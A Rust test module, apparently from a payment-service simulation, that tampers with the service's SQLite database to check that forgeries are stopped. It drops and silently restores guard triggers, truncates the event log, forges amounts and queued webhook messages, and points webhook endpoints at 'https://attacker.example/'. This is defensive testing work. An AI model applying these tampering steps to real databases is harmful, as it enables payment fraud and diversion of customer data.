//! An attacker with write access to the database file, after everything else: what they write is neither believed, nor sent,
//! nor written on. Whatever they do, they do not have the key.

use std::{sync::Arc, time::Duration};

use anyhow::Context;
use axum::{body::Body, http::Method};
use rusqlite::{Connection, OpenFlags};
use serde_json::{Value, json};
use tokio::time::sleep;

use crate::{
    addresses::ORIGIN,
    checks::Check,
    http, log,
    merchant::Merchant,
    model::{Order, taka},
    random::Random,
    world::World,
};

/// The amount in forged messages.
pub(crate) const FORGED: &str = "987654.32";

/// What the attacker changes.
#[derive(Debug, Clone, Copy)]
enum Attack {
    /// The end of the log is cut off, and its head set to what is left.
    CutLog,
    /// The amount of an order is changed in its first event.
    ForgedEvent,
    /// A message that waits to be sent is changed.
    ForgedMessage,
    /// The address of an endpoint is changed.
    ForeignAddress,
}

/// Attacks a run's database in one way.
pub(crate) async fn attack(world: &Arc<World>, merchant: &Merchant) -> anyhow::Result<()> {
    let random = world.random.fork();
    let attacks = [
        Attack::CutLog,
        Attack::ForgedEvent,
        Attack::ForgedMessage,
        Attack::ForeignAddress,
    ];
    let attack = attacks[usize::try_from(random.below(attacks.len() as u64))?];
    world.trace(|| format!("attack: {attack:?}"));
    world.conditions.kill_endpoints(true);
    let (amount, session) = open(world, merchant, "INV-ATTACKED", &random)
        .await
        .context("no order to attack")?;
    sleep(Duration::from_secs(2)).await;
    let on_fault_disk = world.disk.is_some();
    let connection = log::connect(&world.database(), OpenFlags::default(), on_fault_disk)?;
    connection.pragma_update(None, "foreign_keys", false)?;
    connection.busy_timeout(Duration::from_secs(5))?;
    world.conditions.attack();
    let guards = remove_guards(&connection)?;
    let change = |statement: &str, values: &[&str]| {
        let changed = connection.execute(statement, rusqlite::params_from_iter(values))?;
        connection.execute_batch(&guards)?;
        if changed == 0 {
            fail(world, "the attack changed nothing");
        }
        anyhow::Ok(())
    };
    let text = taka(amount);
    match attack {
        Attack::CutLog => {
            connection.execute_batch(CUT)?;
            connection.execute_batch(&guards)?;
            if open(world, merchant, "INV-AFTER-CUT", &random)
                .await
                .is_some()
            {
                fail(world, "an order was opened after the log had been cut");
            }
        }
        Attack::ForgedEvent => {
            change(
                "UPDATE events SET body = replace(body, ?1, '98765432') WHERE stream = ?2 AND version = 0",
                &[&amount.to_string(), &format!("session/{session}")],
            )?;
            if is_started(world, &session).await {
                fail(
                    world,
                    "a payment was begun after its order had been changed",
                );
            }
        }
        Attack::ForgedMessage => {
            change(
                "UPDATE outbox SET body = replace(body, ?1, ?2)
                 WHERE instr(body, ?1) AND id IN (SELECT event FROM webhook_deliveries WHERE due_at IS NOT NULL)",
                &[&text, FORGED],
            )?;
            deliveries_go_on(world).await;
        }
        Attack::ForeignAddress => {
            change(
                "UPDATE webhook_endpoints SET url = ?1",
                &["https://attacker.example/"],
            )?;
            deliveries_go_on(world).await;
        }
    }
    Ok(())
}

/// Removes the triggers that refuse such changes. Returns the statements that put them back, so that nobody notices by them.
fn remove_guards(connection: &Connection) -> Result<String, rusqlite::Error> {
    let mut statement =
        connection.prepare("SELECT name, sql FROM sqlite_schema WHERE type = 'trigger'")?;
    let guards = statement.query_map([], |row| Ok((row.get(0)?, row.get(1)?)))?;
    let guards: Vec<(String, String)> = guards.collect::<Result<_, _>>()?;
    let mut restore = String::new();
    for (name, definition) in guards {
        connection.execute_batch(&format!("DROP TRIGGER \"{name}\""))?;
        restore.push_str(&definition);
        restore.push(';');
    }
    Ok(restore)
}

/// The attacker deletes the end of the log with what was written beside it, and sets the head to the last event that is left.
const CUT: &str = "
    BEGIN IMMEDIATE;
    DELETE FROM events WHERE seq > (SELECT max(seq) - 2 FROM events);
    DELETE FROM outbox WHERE seq > (SELECT max(seq) FROM events);
    UPDATE lanes SET seq = (SELECT max(seq) FROM events),
                     hash = (SELECT hash FROM events ORDER BY seq DESC LIMIT 1);
    COMMIT;";

fn fail(world: &World, detail: &str) {
    world.fail(Check::ForgeriesStopped, detail);
}

/// Opens an order. Returns its amount and its session.
async fn open(
    world: &World,
    merchant: &Merchant,
    invoice: &str,
    random: &Random,
) -> Option<(u64, String)> {
    let order = Order {
        invoice: invoice.to_owned(),
        amount: random.between(1_000_000, 2_000_000),
        ..Order::default()
    };
    let amount = order.amount;
    world.model().orders.insert(invoice.to_owned(), order);
    let request = json!({
        "amount": taka(amount),
        "invoice": invoice,
        "payer_reference": "customer-attacked",
        "success_url": "https://shop.example/paid",
        "cancel_url": "https://shop.example/cart",
    });
    let reply = merchant
        .post("/v1/checkout/sessions", invoice, &request)
        .await
        .ok()?;
    let session: Value = reply.json();
    Some((amount, session["id"].as_str()?.to_owned()))
}

/// Whether the payer is sent to bKash.
async fn is_started(world: &World, session: &str) -> bool {
    let headers = [
        ("origin", ORIGIN),
        ("content-type", "application/x-www-form-urlencoded"),
    ];
    let path = format!("/pay/{session}/start");
    let request = http::request(Method::POST, &path, &headers, Body::empty());
    let reply = world.call(request).await.ok();
    let location = reply.and_then(|reply| reply.location());
    location.is_some_and(|location| location.starts_with(crate::addresses::BKASH_ORIGIN))
}

/// Lets the endpoints answer again, and waits until every delivery was tried.
async fn deliveries_go_on(world: &World) {
    world.conditions.kill_endpoints(false);
    for _ in 0..4 {
        world.time.skip(Duration::from_secs(6 * 3_600));
        sleep(Duration::from_secs(60)).await;
    }
}
